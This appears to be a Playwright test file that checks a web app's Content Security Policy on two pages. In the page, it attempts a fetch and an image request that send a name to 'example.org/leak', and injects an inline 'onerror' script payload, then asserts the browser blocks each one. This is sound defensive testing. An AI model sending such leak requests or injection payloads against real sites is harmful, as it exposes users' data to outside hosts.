import { expect, ready, test } from './fixtures';

/**
 * Issue 18, item 5: the browser, not only our code, keeps requests on the app's own origin. Every test in
 * this suite also fails on any console error, so a policy that blocked the app's own work would show there.
 */
declare global {
	interface Window {
		cspViolations?: string[];
		injected?: boolean;
	}
}

for (const path of ['/netwerk/', '/gids/baby-crying/']) {
	test(`on ${path} the policy blocks a request to another origin and an injected inline script`, async ({
		page,
		offOrigin,
		pageErrors
	}) => {
		offOrigin.allow('example.org'); // the test's own attempts; the policy must stop them
		await page.goto(path);
		await ready(page);
		const policy = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
		expect(policy).toContain("default-src 'self'");
		expect(policy).toContain("connect-src 'self'");
		expect(policy).toContain("object-src 'none'");
		expect(policy).toContain("base-uri 'self'");
		expect(policy).toContain("form-action 'self'");
		expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);

		await page.evaluate(() => {
			window.cspViolations = [];
			document.addEventListener('securitypolicyviolation', (event) =>
				window.cspViolations!.push(`${event.effectiveDirective} ${event.blockedURI}`)
			);
			void fetch('https://example.org/leak?name=Fatima').catch(() => undefined);
			const image = new Image();
			image.src = 'https://example.org/pixel.png?name=Fatima';
			// What a name with HTML would do if it ever reached the page unescaped.
			document.body.insertAdjacentHTML('beforeend', '<img src="x.png" onerror="window.injected = true">');
		});
		await expect
			.poll(() => page.evaluate(() => [...(window.cspViolations ?? [])].sort()))
			.toEqual([
				'connect-src https://example.org/leak?name=Fatima',
				'img-src https://example.org/pixel.png?name=Fatima',
				'script-src-attr inline'
			]);
		expect(await page.evaluate(() => window.injected)).toBeUndefined();

		// The console reports each refusal; those three are the point of this test, anything else still fails it.
		const refusals = pageErrors.filter((error) => /Refused to|Content Security Policy/.test(error));
		expect(refusals.length).toBeGreaterThanOrEqual(3);
		pageErrors.splice(0, pageErrors.length, ...pageErrors.filter((error) => !refusals.includes(error)));
	});
}
